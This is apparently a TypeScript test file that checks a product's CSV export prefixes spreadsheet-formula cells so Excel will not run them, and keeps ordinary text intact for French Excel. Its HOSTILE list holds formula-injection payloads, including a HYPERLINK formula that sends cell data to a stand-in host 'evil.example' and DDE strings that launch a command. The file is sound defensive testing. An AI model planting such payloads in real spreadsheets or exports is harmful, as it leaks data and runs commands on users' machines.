import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { problemsCsv } from '../../console/app/csv';
import { writeCsv } from '../../shared/csv';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"clic")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '=1+1\nsecond line',
];

describe('CSV written by the product', () => {
  it('escapes every cell a spreadsheet would run as a formula, in the console download of refused rows', () => {
    const csv = problemsCsv(HOSTILE.map((value, index) => ({ line: index + 2, value, message: 'refusé' })));
    const [, ...rows] = Papa.parse<string[]>(csv, { skipEmptyLines: true }).data;
    expect(rows.map((row) => row[1])).toEqual(HOSTILE.map((value) => `'${value}`));
    for (const row of rows) expect(row[1]).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('leaves ordinary text, numbers and phones without a sign as they are, with ; for French Excel', () => {
    const csv = writeCsv(
      ['ligne', 'valeur'],
      [
        [2, '2250701020304'],
        [3, 'Koné; "Awa"'],
        [4, 'a=b'],
      ],
      {
        delimiter: ';',
      },
    );
    expect(csv).toBe('ligne;valeur\r\n2;2250701020304\r\n3;"Koné; ""Awa"""\r\n4;a=b');
  });
});
